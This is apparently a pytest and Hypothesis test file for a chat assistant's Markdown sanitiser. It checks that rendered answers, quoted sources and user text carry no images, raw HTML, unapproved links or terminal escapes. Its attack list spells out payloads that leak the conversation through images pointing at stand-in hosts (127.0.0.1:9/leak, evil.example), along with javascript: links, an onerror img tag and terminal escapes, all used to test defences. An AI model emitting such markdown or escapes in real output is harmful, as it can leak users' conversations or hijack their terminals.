"""The one sanitiser: no image, no unknown link, no HTML, no terminal escape gets through.

Rendered with markdown-it (CommonMark with raw HTML on, the riskiest setting), the
sanitised text must produce no ``<img>``, no element that Markdown itself doesn't
make, and only ``href``s from the allowed set. Hypothesis throws Markdown-shaped
junk at it for the same invariants.
"""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.records import Source
from assistant.sanitize import clean_text, defuse_markdown, safe_markdown, urls_in
from assistant.web.render import answer_messages, saved_messages, sources_markdown, user_message

RENDER = MarkdownIt("commonmark")  # html=True: raw HTML would come through as elements
ALLOWED = frozenset({"https://github.com/roadmap#step-8", "https://docs.python.org/3/tutorial/"})
MARKDOWN_TAGS = {
    "p", "a", "code", "em", "strong", "blockquote", "ul", "ol", "li", "pre", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6",
}  # fmt: skip


def rendered_problems(markdown: str, allowed: frozenset[str] = ALLOWED) -> list[str]:
    """What the browser would fetch or show as a live element that it must not."""
    html = RENDER.render(markdown)
    problems = []
    for tag, attributes in re.findall(r"<([a-zA-Z][\w-]*)([^>]*)>", html):
        if tag.lower() not in MARKDOWN_TAGS:
            problems.append(f"tag <{tag}>")
        problems += [f"attribute {a}" for a in re.findall(r"\s(src|style|on\w+)=", attributes)]
    for href in re.findall(r'href="([^"]*)"', html):
        if href.replace("&amp;", "&") not in allowed:
            problems.append(f"href {href}")
    return problems


ATTACKS = [
    "![x](http://127.0.0.1:9/leak?q=the+conversation)",
    "![](http://host/leak)",
    "![a [b] c](http://host/x 'title')",
    '![alt](<http://host/x y> "t")',
    "[![badge](http://img.example/x.png)](http://evil.example)",
    "[ref]: http://evil.example/x\n\n![x][ref] and ![ref]",
    '<img src="http://host/leak" onerror="alert(1)">',
    "<p style=\"background:url('http://host/x')\">hi</p>",
    "<http://evil.example/auto> and <javascript:alert(1)>",
    "see [evil](http://evil.example/x) and [js](javascript:alert(1)) and http://evil.example/y.",
    "www.evil.example/path and https://docs.python.org/3/tutorial/",
    '[\\[1\\]](https://github.com/roadmap#step-8 "Step 8 › Tools")',
    "* item ![pic](https://cdn.example/p.png)\n  * nested [x](https://docs.python.org/3/tutorial/)",
    "`![x](http://in.code/x)` and ```\n![y](http://in.fence/y)\n```",
    "&#33;[x](http://host/entity) &lt;img src=http://host/y&gt;",
    "\ue0000\ue001 private-use tokens \ue000",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_render_no_image_and_only_allowed_links(attack: str) -> None:
    safe = safe_markdown(attack, ALLOWED)
    assert rendered_problems(safe) == [], safe


def test_what_is_kept_and_how_the_rest_reads() -> None:
    assert safe_markdown("![a diagram](http://h/x.png)") == "🖼 a diagram (`http://h/x.png`)"
    assert (
        safe_markdown("read [the tutorial](https://docs.python.org/3/tutorial/)", ALLOWED)
        == "read [the tutorial](https://docs.python.org/3/tutorial/)"
    )
    assert safe_markdown("[docs](http://evil.example/x)") == "docs (`http://evil.example/x`)"
    assert safe_markdown("go to http://evil.example/y.") == "go to `http://evil.example/y`."
    cited = '[\\[1\\]](https://github.com/roadmap#step-8 "Step 8 › Tools")'
    assert safe_markdown(cited, ALLOWED) == cited  # a citation keeps its hover title
    assert safe_markdown("<b>bold</b> & > quote") == "&lt;b>bold&lt;/b> & > quote"
    assert safe_markdown("**Step 8** — *RL*") == "**Step 8** — *RL*"


def test_terminal_escapes_and_controls_are_stripped() -> None:
    nasty = "\x1b]0;pwned\x07title \x1b[2J\x1b[31mred\x1b[0m \x9b31m C1 \x07bell\x00 \u202eevil"
    assert clean_text(nasty) == "title red 31m C1 bell evil"
    assert clean_text("tabs\tand\nlines\r\nstay") == "tabs\tand\nlines\nstay"
    assert clean_text("emoji 😊 and ≈ stay") == "emoji 😊 and ≈ stay"


def test_urls_in_a_chunk() -> None:
    text = "See [RLlib](https://docs.ray.io/en/latest/rllib/) or https://gym.openai.com."
    assert urls_in(text) == ("https://docs.ray.io/en/latest/rllib/", "https://gym.openai.com")


def source(n: int, snippet: str, links: tuple[str, ...] = ()) -> Source:
    return Source(n, "Page", "Tools", "https://docs.python.org/3/tutorial/", snippet, 1.0, "page",
                  links=links)  # fmt: skip


def test_the_chat_renders_answers_snippets_and_user_text_safely() -> None:
    from assistant.answering.assistant import Answer

    quoted = "* Gym ![logo](http://127.0.0.1:9/leak) [site](https://gym.example/) [x](http://evil/)"
    src = source(1, quoted, links=("https://gym.example/",))
    answer = Answer(
        question="q",
        text="Use Gym [1]. ![t](http://127.0.0.1:9/gen) [more](https://gym.example/)",
        sources=[src],
        mode="ollama:m",
        declined=False,
    )
    text, block = (m["content"] for m in answer_messages(answer))
    for shown in (text, block):
        allowed = frozenset({src.url, *src.links})
        assert rendered_problems(shown, allowed) == [], shown
    assert "[more](https://gym.example/)" in text  # verbatim in the cited chunk: kept
    assert "[site](https://gym.example/)" in sources_markdown([src])
    assert "x (`http://evil/`)" in sources_markdown([src])  # not in the chunk's links: inert
    typed = user_message("![x](http://127.0.0.1:9/typed) <img src=x>")["content"]
    assert rendered_problems(typed) == []
    saved = '![old](http://h/x) [\\[1\\]](https://s/1 "T") <img src=y>'
    parts = [{"type": "text", "text": "![p](http://h/p)"}, {"type": "file", "path": "/etc/x"}]
    assert saved_messages([{"role": "user", "content": parts}]) == [
        {"role": "user", "content": "🖼 p (`http://h/p`)"}
    ]
    restored = saved_messages([{"role": "assistant", "content": saved}, "junk"])
    kept = '🖼 old (`http://h/x`) [\\[1\\]](https://s/1 "T") &lt;img src=y>'
    assert restored == [{"role": "assistant", "content": kept}]


MARKDOWNISH = st.lists(
    st.sampled_from(
        [
            "![",
            "[",
            "]",
            "(",
            ")",
            "<",
            ">",
            "`",
            "``",
            "\\",
            "!",
            "*",
            "\n",
            " ",
            '"',
            "'",
            "http://h.example/x",
            "https://docs.python.org/3/tutorial/",
            "www.w.example",
            ":",
            "<img src=",
            "javascript:",
            "\x1b[2J",
            "\x1b]0;t\x07",
            "\x9b",
            "&#33;",
            "&lt;",
            "[r]: ",
            "\ue000",
            "\ue0010\ue001",
            "#",
            "> ",
            "- ",
            "a",
            "b c",
        ]
    ),  # fmt: skip
    max_size=40,
).map("".join)


@settings(max_examples=400, deadline=None)
@given(MARKDOWNISH)
def test_property_no_remote_fetch_and_no_escape_out_of_the_sanitiser(text: str) -> None:
    safe = safe_markdown(text, ALLOWED)
    assert rendered_problems(safe) == [], (text, safe)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", safe)
    assert "\ue000" not in safe and "\ue001" not in safe
    plain = defuse_markdown(text, ALLOWED)
    assert "\x1b" not in plain and rendered_problems(plain.replace("<", "&lt;")) == []


@settings(max_examples=200, deadline=None)
@given(st.text())
def test_property_any_unicode_text_is_cleaned_without_error(text: str) -> None:
    cleaned = clean_text(text)
    assert "\x1b" not in cleaned and "\r" not in cleaned
    assert rendered_problems(safe_markdown(text)) == []
